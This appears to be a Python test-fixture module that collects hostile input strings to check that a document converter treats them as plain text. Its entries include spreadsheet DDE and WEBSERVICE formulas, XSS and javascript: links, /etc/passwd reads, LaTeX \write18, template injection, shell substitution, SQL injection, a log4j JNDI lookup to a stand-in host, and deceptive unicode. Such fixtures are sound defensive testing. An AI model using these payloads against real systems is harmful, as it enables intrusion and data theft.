"""Words that another program would run, or choke on; here they are words."""

from __future__ import annotations

import os

FILE = "/etc/passwd"
AWAY = "http://hostile.invalid/x"
"""An address that no network has (RFC 6761): whoever asks for it has been taken in."""

SPREADSHEET = {
    "formula": "=1+1",
    "formula_dde": "=cmd|' /C calc'!A0",
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": '@SUM(1+1)*cmd|" /C calc"!A0',
    "formula_tab": "\t=1+1",
    "formula_link": f'=HYPERLINK("{AWAY}","see")',
    "formula_web": f'=WEBSERVICE("{AWAY}")',
    "formula_import": f'=IMPORTXML("{AWAY}","//a")',
    "formula_wide": "\uff1d1+1",
}
PAGE = {
    "script": '<script>window.ran="script"</script>',
    "script_split": '<scr<script>ipt>window.ran="split"</scr</script>ipt>',
    "script_end": '</script></style></title></textarea><script>window.ran="end"</script>',
    "image": "<img src=x onerror=\"window.ran='image'\">",
    "image_away": f'<img src="{AWAY}.png"><link rel=stylesheet href="{AWAY}.css">',
    "svg": "<svg/onload=\"window.ran='svg'\"><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "frame": f'<iframe srcdoc="<script>parent.ran=1</script>" src="{AWAY}"></iframe>',
    "attribute": '"\' onmouseover="window.ran=\'attribute\'" autofocus onfocus="alert(1)',
    "comment": "--><script>window.ran='comment'</script><!--",
    "cdata": "]]><script>window.ran='cdata'</script><![CDATA[",
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}"><base href="{AWAY}">',
    "style": f"<style>*{{display:none;background:url({AWAY})}}</style>",
    "form": f'<form action="{AWAY}"><input autofocus><button>go</button></form>',
    "entity_long": "&#" + "9" * 5_000 + "; &#x" + "f" * 5_000 + "; &#0; &#xD800;",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
}
MARKDOWN = {
    "link": "[see](javascript:alert(1)) [b](<javascript:alert(2)>) <javascript:alert(3)>",
    "link_data": "[see](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link_vb": "[see](vbscript:msgbox(1)) [see](file:///etc/passwd)",
    "link_reference": "[see][r]\n\n[r]: javascript:alert(1) 'title'",
    "picture": f"![x]({AWAY}.png) ![y](/etc/passwd) ![z](../../../etc/passwd)",
    "address": f"<{AWAY}> {AWAY} www.hostile.invalid",
    "raw_block": '~~~ {=html}\n<script>window.ran="raw"</script>\n~~~',
    "raw_inline": "`<script>window.ran=1</script>`{=html} `#panic()`{=typst} `x`{=openxml}",
    "attributes": '# x {onclick="alert(1)" .unnumbered} []{onmouseover="alert(1)" .y}',
    "fence": "::: {.columns onclick=alert(1)}\nx\n:::",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "heading": "# Not a heading\n\nNor\n===\n\n***",
    "include": '!include /etc/passwd {% include "/etc/passwd" %} [[include:/etc/passwd]]',
    "front": "---\ntitle: x\nheader-includes: <script>alert(1)</script>\n---",
    "footnote": "x[^1] ^[y]\n\n[^1]: z @cite [@key]",
}
PROGRAMS = {
    "typst_read": '#read("/etc/passwd") #include "/etc/passwd"',
    "typst_eval": '#eval("1+1") #panic("x") #set page(width: 1cm) $ x $ <label> @ref',
    "typst_link": f'#link("{AWAY}")[x] #image("/etc/passwd")',
    "latex": "\\input{/etc/passwd} \\write18{touch ran} \\directlua{os.execute('x')} $x^2$ %",
    "template": "{{ 7*7 }} {% for x in y %} {# x #} ${7*7} <%= 7*7 %> #{7*7} {{{x}}}",
    "template_python": "{{ ''.__class__.__mro__[1].__subclasses__() }} {0.__class__} %(x)s %s %n",
    "shell": "$(touch ran) `touch ran` ; touch ran | touch ran && touch ran > ran",
    "sql": "'; DROP TABLE answers; --",
    "path": "../../../../etc/passwd",
    "path_windows": "C:\\Windows\\win.ini \\\\hostile.invalid\\share con.txt",
    "log4j": f"${{jndi:ldap://hostile.invalid/{'a'}}}",
    "word_field": ' HYPERLINK "http://hostile.invalid" DDEAUTO c:\\\\cmd.exe "/k calc" ',
    "word_xml": "</w:t></w:r><w:altChunk r:id='x'/><w:fldSimple w:instr='DDE x'/>",
    "pdf": "(x) /JS (app.alert(1)) /OpenAction << /S /Launch /F (calc) >> endobj",
}
LETTERS = {
    "right_to_left": "\u202egnp.exe\u202c \u2067x\u2069 \u200f",
    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "control": "a\x01b\x07c\x08d\x1b[2Je\x7ff\x85g\x9b31m",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg\x1eh",
    "marks": "Z" + "\u0351\u0300\u0489" * 60,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd\U0001f1ec\U0001f1e7\u2764\ufe0f",
    "private": "\ue000\uf8ff\U000f0000\U0010fffd\ufffe\uffff",
    "tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore"),
    "confusable": "\u0430dmin \u217b \uff21 \u212a \u0131 \u0130 \u00df \u1e9e",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 \u0661\u0662\u0663 \u06f4",
    "digits": "\u00b2 \u2460 \u096a \u2167 \u0be8 \U0001d7d8",
    "unit": "a\x1fb\x1fc",
    "long_word": "x" * 20_000,
    "long_words": "word " * 5_000,
}
WORDS: dict[str, str] = SPREADSHEET | PAGE | MARKDOWN | PROGRAMS | LETTERS
"""Each by a name that stays."""


def joined(kind: dict[str, str]) -> str:
    """All words of a kind on one line, as one text that holds whatever they do."""
    return " ".join(" ".join(text.split()) for text in kind.values())


def unmade() -> tuple[str, ...]:
    """Names of files that the words above would make if a shell ran them."""
    return ("ran", f"ran{os.extsep}txt")
